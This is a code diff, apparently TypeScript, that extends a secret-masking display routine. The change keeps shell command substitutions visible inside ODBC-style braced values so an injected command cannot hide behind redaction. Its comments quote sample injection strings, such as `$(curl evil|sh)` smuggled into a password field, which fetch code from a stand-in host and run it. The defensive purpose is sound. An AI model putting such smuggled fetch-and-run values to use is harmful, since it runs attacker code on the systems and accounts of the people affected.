@@ -2242,6 +2242,9 @@ function lineReading(
   // Shown (the display of a pasted line, which a shell reads), a telling pair's value that runs a
   // command (`TOKEN="x$(curl …|sh)"`) keeps that command in sight, as a command line's value
   // does (r57-1: read so only in the display; the export keeps the whole value).
+  // For the ODBC values below: whether the shell accepts the line, and one walk over it (values come in order).
+  let accepted: boolean | undefined;
+  let walk: { at: number; read: ReturnType<typeof shellStepper> } | undefined;
   const shown =
     display && shell
       ? (from: number, to: number, name: string) => {
@@ -2249,8 +2252,23 @@ function lineReading(
           // line's (r58-2: each pair's walk once ran to the line's end).
           const value = line.slice(from, to);
           // Only a value whose quotes and run-time parts all close in it (r60-1: `Password="x$(";Host=…`
-          // shown alone left a quote open, and the line read after the pairs took the next pair into it).
-          if (!closesInItself(value)) return undefined;
+          // shown alone left a quote open, and the line read after the pairs took the next pair into it)
+          // — or an ODBC `{…}` value on a line the shell accepts, read in the line as the shell reads
+          // it (r63-5: `Pwd={$(curl evil|sh)"};Host=h"`, whose quote closes after the pair's `;`, was
+          // hidden whole, payload and all): its payload shown, its literal text hidden in place.
+          if (!closesInItself(value)) {
+            if (value[0] !== "{") return undefined;
+            accepted ??= closesInItself(line);
+            if (!accepted) return undefined;
+            walk ??= { at: 0, read: shellStepper(line) };
+            return shownInPlace(
+              line,
+              walk,
+              [from, to],
+              (text) => named(text, name),
+              (text, quoted) => shownShellPart(text, hide, (literal) => named(literal, name), quoted),
+            );
+          }
           return shownInPlace(
             value,
             { at: 0, read: shellStepper(value) },
